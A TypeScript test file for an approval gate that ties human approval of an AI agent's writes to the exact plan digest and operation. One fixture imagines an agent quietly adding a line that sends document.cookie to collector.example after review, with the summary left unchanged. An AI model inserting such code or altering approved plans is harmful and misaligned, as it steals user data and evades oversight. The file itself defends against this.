import { expect, it } from "vitest";
import { ApprovalGate, parseApproval, type Approval, type AuthorizationRequest } from "forge/tools/approval";
import { buildChangePlan, planDigest } from "forge/tools/plans";
import { oneLine, otherThan, outcome, refused } from "../../lab/outcome.js";

// The software-delivery scenario: an agent adds a dark-mode toggle to a front-end repository. The
// reviewer approved the first plan; afterwards the agent changed the component's code, but not its
// summary, so the plan still reads the same to a human.
const OPERATION = "add-dark-mode-toggle";
const bytes = (text: string) => new TextEncoder().encode(text);

const TOGGLE_REVIEWED = `export function ThemeToggle() {
  return <button onClick={() => document.body.classList.toggle("dark")}>Dark mode</button>;
}
`;
const TOGGLE_CHANGED = `export function ThemeToggle() {
  fetch("https://collector.example/t?c=" + encodeURIComponent(document.cookie));
  return <button onClick={() => document.body.classList.toggle("dark")}>Dark mode</button>;
}
`;
const TOGGLE_TEST = `it("toggles the dark class", () => { /* ... */ });\n`;

function togglePlanDigest(component: string): string {
  return planDigest(
    buildChangePlan(OPERATION, {
      "src/components/ThemeToggle.tsx": ["add the dark-mode toggle", bytes(component)],
      "src/components/ThemeToggle.test.tsx": ["test the toggle", bytes(TOGGLE_TEST)],
    }),
  );
}

const approve = (operationId: string, digest: string): Approval => ({ operationId, planDigest: digest });

/** A decision in words: `authorized`, `denied`, an error's whole message, or any other value returned. */
const decision = (value: unknown) => (value === true ? "authorized" : value === false ? "denied" : `returned ${oneLine(value)}`);

/** The gate's decision for each request, in order: `{ "no approval": "denied", … }`. */
function decisions(gate: ApprovalGate, requests: Record<string, AuthorizationRequest>): Record<string, string> {
  return Object.fromEntries(
    Object.entries(requests).map(([label, request]) => [label, outcome(() => gate.authorize(request), null, decision)]),
  );
}

it("a read-only operation needs no approval", () => {
  const gate = new ApprovalGate();
  const read = { risk: "read", operationId: "op", planDigest: "x" };
  // An approval that fits nothing changes nothing either: reading is not gated.
  expect(
    decisions(gate, {
      "no approval": { ...read, approval: null },
      "an approval for another operation and plan": { ...read, approval: approve("other", "y") },
    }),
    "decisions for a read",
  ).toEqual({ "no approval": "authorized", "an approval for another operation and plan": "authorized" });
});

it("a write requires an approval bound to the exact plan", () => {
  const gate = new ApprovalGate();
  const reviewed = togglePlanDigest(TOGGLE_REVIEWED);
  const current = togglePlanDigest(TOGGLE_CHANGED);
  expect(current, "the premise: the digest of the changed plan differs from the reviewed one").not.toBe(reviewed);
  const request = { risk: "reversible_write", operationId: OPERATION, planDigest: current };
  // The same rule with bare labels: an approval for "old" does not authorize "new".
  const labelled = { risk: "reversible_write", operationId: "op", planDigest: "new" };

  expect(
    decisions(gate, {
      "no approval": { ...request, approval: null },
      "the approval of the reviewed plan, for the plan changed after review": { ...request, approval: approve(OPERATION, reviewed) },
      "an approval of the changed plan itself": { ...request, approval: approve(OPERATION, current) },
      'an approval for digest "old", for digest "new"': { ...labelled, approval: approve("op", "old") },
      'an approval for digest "new", for digest "new"': { ...labelled, approval: approve("op", "new") },
    }),
    "decisions for a reversible write, by approval (only an approval of this exact plan may authorize it)",
  ).toEqual({
    "no approval": "denied",
    "the approval of the reviewed plan, for the plan changed after review": "denied",
    "an approval of the changed plan itself": "authorized",
    'an approval for digest "old", for digest "new"': "denied",
    'an approval for digest "new", for digest "new"': "authorized",
  });
});

it("an unknown risk is rejected", () => {
  const gate = new ApprovalGate();
  const digest = togglePlanDigest(TOGGLE_REVIEWED);
  // Even with an approval that matches exactly: an unknown risk is never mapped to an allowed one.
  const call = () => gate.authorize({ risk: "root", operationId: OPERATION, planDigest: digest, approval: approve(OPERATION, digest) });
  expect(
    { "says unknown risk": outcome(call, "unknown risk", decision), "names the risk": outcome(call, "root", decision) },
    'authorize with the risk "root" and an exact approval',
  ).toEqual({ "says unknown risk": refused("unknown risk"), "names the risk": refused("root") });
});

it("an approval for another operation with the same digest is denied", () => {
  const gate = new ApprovalGate();
  // The reviewer approved the theme change for the staging operation. The production operation writes
  // the same bytes to the same path, and the digest leaves the operation id out: the digests are equal.
  const writes = { "src/styles/theme.css": ["dark palette", bytes(":root { --bg: #111; }\n")] } as const;
  const digest = planDigest(buildChangePlan("theme-staging", writes));
  expect(planDigest(buildChangePlan("theme-production", writes)), "the premise: both operations' plans have the same digest").toBe(digest);
  const request = { risk: "reversible_write", operationId: "theme-production", planDigest: digest };
  expect(
    decisions(gate, {
      "the staging approval, replayed for production": { ...request, approval: approve("theme-staging", digest) },
      "an approval for production": { ...request, approval: approve("theme-production", digest) },
    }),
    "decisions for the production operation, by approval",
  ).toEqual({ "the staging approval, replayed for production": "denied", "an approval for production": "authorized" });
});

it("an irreversible operation without an approval is denied", () => {
  const gate = new ApprovalGate();
  // Publishing the built package cannot be undone by the harness: the strongest risk.
  const digest = togglePlanDigest(TOGGLE_REVIEWED);
  const request = { risk: "irreversible", operationId: "publish-release", planDigest: digest };
  expect(
    decisions(gate, {
      "approval null": { ...request, approval: null },
      // A plain-JavaScript caller may leave the field out altogether.
      "approval undefined": { ...request, approval: undefined } as unknown as AuthorizationRequest,
      "an exact approval": { ...request, approval: approve("publish-release", digest) },
    }),
    "decisions for an irreversible operation, by approval",
  ).toEqual({ "approval null": "denied", "approval undefined": "denied", "an exact approval": "authorized" });
});

it("risk names are case-sensitive and untyped input cannot slip through", () => {
  const gate = new ApprovalGate();
  const digest = togglePlanDigest(TOGGLE_REVIEWED);
  const exact = approve(OPERATION, digest);
  const near = ["READ", "Read", " read", "read ", "reversible-write", "Irreversible", "", "toString", "__proto__", "constructor"];
  const notStrings: unknown[] = [undefined, null, 0, ["read"], { toString: () => "read" }, new String("read")];
  const label = (risk: unknown) => (typeof risk === "string" ? JSON.stringify(risk) : `${oneLine(risk)} (${typeof risk})`);
  const verdicts: Record<string, string> = {};
  for (const risk of [...near, ...notStrings]) {
    verdicts[label(risk)] = outcome(
      () => gate.authorize({ risk: risk as string, operationId: OPERATION, planDigest: digest, approval: exact }),
      "unknown risk",
      decision,
    );
  }
  expect(
    otherThan(verdicts, refused("unknown risk")),
    'near-miss and non-string risks, not refused with an error containing "unknown risk"',
  ).toEqual({});
  // A request parsed from JSON that names no operation and no plan, with an empty approval: nothing is
  // bound, so nothing is authorized (undefined === undefined must not count as a match).
  expect(
    decisions(gate, {
      '{"risk": "irreversible", "approval": {}}': JSON.parse('{"risk": "irreversible", "approval": {}}') as AuthorizationRequest,
      "blank operation and plan, with a blank approval": JSON.parse(
        '{"risk": "reversible_write", "operationId": "", "planDigest": "", "approval": {"operationId": "", "planDigest": ""}}',
      ) as AuthorizationRequest,
    }),
    "decisions for requests that bind no operation and no plan",
  ).toEqual({ '{"risk": "irreversible", "approval": {}}': "denied", "blank operation and plan, with a blank approval": "denied" });
});

it("an approval that arrives as JSON is accepted only in its exact shape", () => {
  const gate = new ApprovalGate();
  const digest = togglePlanDigest(TOGGLE_REVIEWED);
  const approval = parseApproval(JSON.parse(`{"operationId": "${OPERATION}", "planDigest": "${digest}"}`));
  expect(approval, "the approval parsed from JSON").toEqual({ operationId: OPERATION, planDigest: digest });
  expect(Object.isFrozen(approval), "Object.isFrozen of the parsed approval").toBe(true);
  expect(
    decisions(gate, { "the parsed approval": { risk: "reversible_write", operationId: OPERATION, planDigest: digest, approval } }),
    "decision",
  ).toEqual({
    "the parsed approval": "authorized",
  });
  const bad = [
    `{"operationId": "${OPERATION}"}`,
    `{"operationId": "${OPERATION}", "planDigest": "${digest.toUpperCase()}"}`,
    `{"operationId": "${OPERATION}", "planDigest": "${digest.slice(0, 12)}"}`,
    `{"operationId": "${OPERATION}", "planDigest": "${digest}", "scope": "all"}`,
    `{"operationId": "  ", "planDigest": "${digest}"}`,
    `{"operationId": 7, "planDigest": "${digest}"}`,
    `["${OPERATION}", "${digest}"]`,
    "null",
  ];
  const verdicts = Object.fromEntries(bad.map((json) => [json, outcome(() => parseApproval(JSON.parse(json)), "invalid approval")]));
  expect(
    otherThan(verdicts, refused("invalid approval")),
    'malformed approvals given to parseApproval, not refused with an error containing "invalid approval"',
  ).toEqual({});
});

it("a granted approval is not remembered for a later request", () => {
  const gate = new ApprovalGate();
  const digest = togglePlanDigest(TOGGLE_REVIEWED);
  const request = { risk: "reversible_write", operationId: OPERATION, planDigest: digest };
  // The same operation and plan, asked three times in this order: a gate that cached the grant would
  // say yes to the second; nor may a denial stick, so the third is decided on its own input alone.
  expect(
    decisions(gate, {
      "1. with an exact approval": { ...request, approval: approve(OPERATION, digest) },
      "2. then without an approval": { ...request, approval: null },
      "3. then with the exact approval again": { ...request, approval: approve(OPERATION, digest) },
    }),
    "decisions for one operation and plan, asked in this order",
  ).toEqual({
    "1. with an exact approval": "authorized",
    "2. then without an approval": "denied",
    "3. then with the exact approval again": "authorized",
  });
});
